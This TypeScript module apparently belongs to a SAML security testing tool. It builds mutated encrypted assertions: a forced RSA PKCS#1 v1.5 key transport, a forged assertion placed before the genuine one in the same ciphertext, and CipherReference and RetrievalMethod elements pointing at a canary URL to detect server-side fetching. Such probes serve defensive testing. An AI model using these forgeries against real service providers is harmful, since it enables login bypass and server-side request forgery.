/** Encrypted assertions that are somewhere else, are two, or are wrapped in an old way; the algorithms stay those of the honest twin. */

import { keyTransport } from '../protocol/algorithms.ts';
import type { EncryptionPlan, Facts, Mutation } from '../protocol/types.ts';
import { escapeAttribute } from '../protocol/xml.ts';
import { edit, editInner, innersOf } from './elements.ts';
import { forgedAssertion } from './victim.ts';

/** For shapes with encryption: changes how the assertion is encrypted. */
function encryptedDifferently(change: (facts: Facts) => Partial<EncryptionPlan>): Mutation {
  return {
    plan: (plan, facts) => ({
      ...plan,
      encryption: plan.encryption && { ...plan.encryption, ...change(facts) },
    }),
  };
}

/** The content key under RSA PKCS#1 v1.5, whose padding has told secrets since 1998. */
export function keyByRsa15(): Mutation {
  return encryptedDifferently(() => ({ keyAlgorithm: keyTransport.rsa15 }));
}

/** In one ciphertext a forged assertion stands before the genuine one. */
export function forgedInSameCiphertext(): Mutation {
  return encryptedDifferently((facts) => ({ prolog: forgedAssertion(facts, facts.newId()) }));
}

/** The ciphertext is said to lie at the canary. */
export function ciphertextToFetch(): Mutation {
  return encryptedDifferently(({ canaryUrl }) => {
    const reference = `<e:CipherReference URI="${escapeAttribute(canaryUrl)}"/>`;
    // The content's CipherData comes last: that of the key stands in front of it, in KeyInfo.
    return {
      asSent: (xml) => {
        const last = innersOf(xml, 'CipherData').length - 1;
        return editInner(xml, 'CipherData', (inner, index) => (index === last ? reference : inner));
      },
    };
  });
}

/** The content key is said to lie at the canary. */
export function contentKeyToFetch(): Mutation {
  return encryptedDifferently(({ canaryUrl }) => {
    const type = 'http://www.w3.org/2001/04/xmlenc#EncryptedKey';
    const method = `<RetrievalMethod xmlns="http://www.w3.org/2000/09/xmldsig#" Type="${type}" URI="${escapeAttribute(canaryUrl)}"/>`;
    return { asSent: (xml) => edit(xml, 'EncryptedKey', () => method) };
  });
}
